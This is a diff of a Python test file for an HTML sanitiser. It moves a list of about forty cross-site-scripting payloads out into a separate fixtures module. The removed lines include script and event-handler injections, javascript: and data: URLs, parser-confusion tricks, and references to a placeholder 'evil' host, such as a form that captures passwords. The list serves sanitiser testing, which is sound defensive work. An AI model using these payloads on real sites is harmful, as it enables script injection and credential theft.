@@ -7,6 +7,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from bridge import html
+from tests.fakes.markup import ATTACKS
 
 REL = 'rel="nofollow noopener noreferrer"'
 KNOWN = {
@@ -36,48 +37,6 @@ def linked(url, text=""):
 
 # Attacks
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="java\tscript:alert(1)">x</a>',
-    '<a href="&#106;avascript:alert(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="vbscript:x">x</a>',
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)></object>",
-    "<embed src=//evil/x.swf>",
-    "<form action=//evil><input name=password></form>",
-    "<style>@import '//evil/x.css'</style>",
-    '<p style="background:url(//evil/t.png);position:fixed;inset:0">x</p>',
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<b/onmouseover=alert(1)>x</b>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[><script>alert(1)</script>]]>",
-    "<textarea></textarea><script>alert(1)</script>",
-    "<base href=//evil/>",
-    "<meta http-equiv=refresh content='0;url=//evil'>",
-    "<link rel=stylesheet href=//evil>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "<scr<script>ipt>alert(1)</script>",
-    "<a href=x id=__proto__ name=cookie class='modal admin-panel'>x</a>",
-    "<p dir=rtl>\u202eabc\u2066\u2067</p>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<template><script>alert(1)</script></template>",
-    "<a href='https://x.org' \x00onclick=alert(1)>x</a>",
-    "<a href='//evil/'>x</a>",
-    "<a href='https://user:word@evil/'>x</a>",
-    "<img data-mx-emoticon alt='<script>alert(1)</script>' src=mxc://x/y>",
-    "<span data-mx-spoiler='<script>alert(1)</script>'>x</span>",
-    "<a href=\"https://x.org/?'onmouseover='alert(1)\">x</a>",
-    '<a href="https://x.org/&quot; onmouseover=&quot;alert(1)">x</a>',
-    "<code class='language-x\"onclick=alert(1)'>x</code>",
-]
 TAGS = {f"h{level}" for level in range(1, 7)} | {
     *("p", "br", "a", "span", "del", "pre", "code", "em", "strong", "b", "i", "u", "sub", "sup"),
     *("ul", "ol", "li", "blockquote", "hr"),
